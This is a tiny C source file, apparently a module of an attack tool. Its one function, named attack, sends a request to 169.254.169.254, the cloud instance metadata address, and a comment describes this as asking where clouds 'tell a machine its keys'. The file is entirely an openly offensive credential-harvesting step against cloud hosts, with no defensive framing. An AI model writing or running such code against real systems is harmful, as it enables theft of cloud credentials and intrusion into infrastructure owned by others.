// Asks at the address at which clouds tell a machine its keys.
#include "skill.h"
#include "network.h"

static const char *attack(const struct targets *to) {
    return get("169.254.169.254", 80);
}
